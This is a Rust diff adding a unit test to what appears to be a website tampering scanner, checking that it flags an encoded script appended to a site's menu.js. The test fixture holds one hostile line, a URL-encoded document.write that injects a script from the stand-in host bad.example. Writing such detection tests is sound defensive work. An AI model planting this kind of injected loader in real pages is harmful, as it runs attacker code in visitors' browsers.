@@ -244,6 +244,7 @@ pub(super) fn with_states(mut resources: Vec<Resource>, known: &[&Resource], bod
 #[cfg(test)]
 mod tests {
     use super::*;
+    use crate::model::{Content, Wanted};
 
     #[test]
     fn what_was_added_is_found_at_both_ends() {
@@ -252,5 +253,22 @@ mod tests {
         assert_eq!(added_part(b"var a;", b"var b; var c;"), None);
         assert_eq!(added_part(b"var a;\n", b"\nvar a;\n\n"), None);
         assert_eq!(added_part(b"", b"var a;"), None);
+    }
+
+    #[test]
+    fn an_added_part_is_told_once_by_its_line_in_the_file() {
+        let url: Url = "https://www.city.example/menu.js".parse().expect("a URL");
+        let wanted = Wanted { kind: ResourceKind::Script, url, own: true };
+        let old = "function menu() {\n  document.body.classList.toggle('open');\n}\n";
+        let evil = "document.write(unescape('%3Cscript src=//bad.example/a.js%3E%3C/script%3E'));";
+        let content = Content::Absent { status: 404 };
+        let resource = Resource::new(wanted, true, content);
+        let body = format!("{old}{evil}\n");
+        let found = examine_one(&resource, body.as_bytes(), Some((old.as_bytes(), None)), About::nothing()).findings;
+        let of = |rule: &str| found.iter().filter(|one| one.rule == rule).collect::<Vec<_>>();
+        let encoded = of("encoded-script");
+        assert_eq!(encoded.len(), 1, "{found:#?}");
+        assert_eq!(encoded[0].location.as_ref().and_then(|place| place.line), Some(4), "{found:#?}");
+        assert_eq!(of("script-appended").len(), 1);
     }
 }
